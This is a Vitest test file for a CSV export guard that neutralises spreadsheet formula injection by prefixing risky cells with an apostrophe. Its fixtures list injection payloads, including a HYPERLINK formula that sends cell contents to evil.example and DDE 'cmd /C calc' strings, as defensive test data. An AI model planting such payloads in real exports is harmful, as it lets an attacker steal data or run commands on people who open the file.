import { describe, expect, it } from 'vitest';
import { fromCsv } from '../../src/io/fromCsv';
import { toCsv } from '../../src/io/toCsv';
import { guardFormula, unguardFormula } from '../../src/io/csv/formulaGuard';
import { safeParseDataset } from '../../src/schema/safeParseDataset';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted once",
];

describe('CSV formula guard', () => {
  it.each(FORMULAS)('prefixes %j with an apostrophe and reads it back unchanged', (cell) => {
    expect(guardFormula(cell)).toBe(`'${cell}`);
    expect(unguardFormula(guardFormula(cell))).toBe(cell);
  });

  it.each(['-33.786', '+2', '-0.5', '1e-3', '-1E+5', 'plain text', "'tis the season", "'", ''])(
    'leaves %j as it is, and reads it back as it is',
    (cell) => {
      expect(guardFormula(cell)).toBe(cell);
      expect(unguardFormula(cell)).toBe(cell);
    },
  );

  it('toCsv writes no cell that starts with a formula character, except plain numbers', () => {
    const { dataset } = safeParseDataset({
      title: 't',
      actors: [{ id: 'a', name: '=cmd|" /C calc"!A0' }],
      sources: [{ id: 's', outlet: '@outlet', title: '+headline' }],
      events: [
        {
          id: 'e1',
          start: '2024-01-28',
          title: '=HYPERLINK("http://evil.example","Click")',
          summary: '-1+1',
          category: 'attack',
          actors: ['a'],
          sources: ['s'],
          location: { name: '=place', country: '@country', lat: -33.5, lon: -70.25 },
          tags: ['=tag'],
          dateNote: '\tnote',
        },
      ],
    });
    const csv = toCsv(dataset);
    const cells = csv.split(/[\n,]/).map((cell) => cell.replace(/^"/, ''));
    const risky = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?$/.test(cell));
    expect(risky).toEqual([]);
    expect(cells).toContain('-33.5');
    expect(cells).toContain('-70.25');
    const back = fromCsv(csv, { title: 't' }).dataset.events[0]!;
    expect(back.title).toBe('=HYPERLINK("http://evil.example","Click")');
    expect(back.summary).toBe('-1+1');
    expect(back.location).toMatchObject({ name: '=place', country: '@country', lat: -33.5, lon: -70.25 });
    expect(back.tags).toEqual(['=tag']);
  });
});
